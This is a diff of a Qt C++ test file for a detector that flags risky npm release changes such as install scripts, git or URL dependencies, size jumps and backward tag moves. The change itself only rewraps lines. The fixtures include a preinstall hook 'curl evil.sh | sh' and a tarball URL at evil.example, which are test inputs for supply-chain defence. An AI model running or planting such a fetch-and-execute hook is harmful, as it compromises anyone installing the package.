@@ -58,8 +58,8 @@ void TestWatchSignals::manifest_data()
     QTest::addColumn<QString>("evidence");
     using W = ReleaseSignal::Weight;
 
-    QTest::newRow("nothing that matters") << QByteArray(R"({"description":"new words"})")
-                                          << QString() << W::Notable << QString();
+    QTest::newRow("nothing that matters")
+        << QByteArray(R"({"description":"new words"})") << QString() << W::Notable << QString();
     QTest::newRow("a new postinstall")
         << QByteArray(R"({"scripts":{"test":"jest","prepare":"tsc","postinstall":"node x.js"}})")
         << u"install-script"_s << W::Alarm << u"Adds a postinstall script: \"node x.js\""_s;
@@ -67,12 +67,13 @@ void TestWatchSignals::manifest_data()
         << QByteArray(R"({"scripts":{"preinstall":"curl evil.sh | sh"}})") << u"install-script"_s
         << W::Alarm << u"preinstall script: \"curl evil.sh | sh\""_s;
     QTest::newRow("a changed prepare")
-        << QByteArray(R"({"scripts":{"test":"jest","prepare":"node p.js"}})")
-        << u"install-script"_s << W::Notable << u"prepare script from \"tsc\""_s;
-    QTest::newRow("binding.gyp")
-        << QByteArray(R"({"gypfile":true})") << u"native-build"_s << W::Alarm << u"binding.gyp"_s;
+        << QByteArray(R"({"scripts":{"test":"jest","prepare":"node p.js"}})") << u"install-script"_s
+        << W::Notable << u"prepare script from \"tsc\""_s;
+    QTest::newRow("binding.gyp") << QByteArray(R"({"gypfile":true})") << u"native-build"_s
+                                 << W::Alarm << u"binding.gyp"_s;
     QTest::newRow("a git dependency")
-        << QByteArray(R"({"dependencies":{"react":"^18.2.0","pcj":"git+https://github.com/e/p.git"}})")
+        << QByteArray(
+               R"({"dependencies":{"react":"^18.2.0","pcj":"git+https://github.com/e/p.git"}})")
         << u"git-dependency"_s << W::Alarm << u"pcj from git+https://github.com/e/p.git"_s;
     QTest::newRow("a URL dependency")
         << QByteArray(R"({"dependencies":{"react":"https://evil.example/react.tgz"}})")
@@ -89,18 +90,17 @@ void TestWatchSignals::manifest_data()
     QTest::newRow("a new optional dependency")
         << QByteArray(R"({"optionalDependencies":{"fsevents":"^2.3.0","sharp":"^0.33.0"}})")
         << u"optional-dependency"_s << W::Notable << u"optional dependency sharp (^0.33.0)"_s;
-    QTest::newRow("a changed command")
-        << QByteArray(R"({"bin":{"acme":"payload.js"}})") << u"bin"_s << W::Notable
-        << u"acme at payload.js instead of cli.js"_s;
-    QTest::newRow("a size jump")
-        << QByteArray(R"({"dist":{"unpackedSize":2400000,"fileCount":13}})") << u"size-jump"_s
-        << W::Notable << u"in 1.1.0 to"_s;
+    QTest::newRow("a changed command") << QByteArray(R"({"bin":{"acme":"payload.js"}})") << u"bin"_s
+                                       << W::Notable << u"acme at payload.js instead of cli.js"_s;
+    QTest::newRow("a size jump") << QByteArray(
+        R"({"dist":{"unpackedSize":2400000,"fileCount":13}})")
+                                 << u"size-jump"_s << W::Notable << u"in 1.1.0 to"_s;
     QTest::newRow("a small size change is no signal")
         << QByteArray(R"({"dist":{"unpackedSize":90000,"fileCount":12}})") << QString()
         << W::Notable << QString();
     QTest::newRow("a file-count jump")
-        << QByteArray(R"({"dist":{"unpackedSize":40000,"fileCount":120}})")
-        << u"file-count-jump"_s << W::Notable << u"from 12 in 1.1.0 to 120"_s;
+        << QByteArray(R"({"dist":{"unpackedSize":40000,"fileCount":120}})") << u"file-count-jump"_s
+        << W::Notable << u"from 12 in 1.1.0 to 120"_s;
 }
 
 void TestWatchSignals::manifest()
@@ -169,13 +169,14 @@ void TestWatchSignals::tagMoves_data()
     QTest::addColumn<QString>("evidence");
     QTest::newRow("forward in the major") << u"1.1.0"_s << u"1.1.1"_s << QString() << QString();
     QTest::newRow("a new tag") << QString() << u"2.0.0-beta.1"_s << QString() << QString();
-    QTest::newRow("back in the major")
-        << u"2.4.1"_s << u"2.3.0"_s << u"tag-backwards"_s << u"back from 2.4.1 to the older 2.3.0"_s;
+    QTest::newRow("back in the major") << u"2.4.1"_s << u"2.3.0"_s << u"tag-backwards"_s
+                                       << u"back from 2.4.1 to the older 2.3.0"_s;
     QTest::newRow("to an older major")
         << u"9.1.0"_s << u"1.0.0"_s << u"tag-older-major"_s << u"from 9.1.0 back to 1.0.0"_s;
     QTest::newRow("to a newer major")
         << u"1.9.0"_s << u"2.0.0"_s << u"tag-other-major"_s << u"another major version, 2.0.0"_s;
-    QTest::newRow("removed") << u"1.9.0"_s << QString() << u"tag-removed"_s << u"pointed at 1.9.0"_s;
+    QTest::newRow("removed") << u"1.9.0"_s << QString() << u"tag-removed"_s
+                             << u"pointed at 1.9.0"_s;
     QTest::newRow("release after its prerelease")
         << u"2.0.0-rc.2"_s << u"2.0.0"_s << QString() << QString();
     QTest::newRow("back to a prerelease")
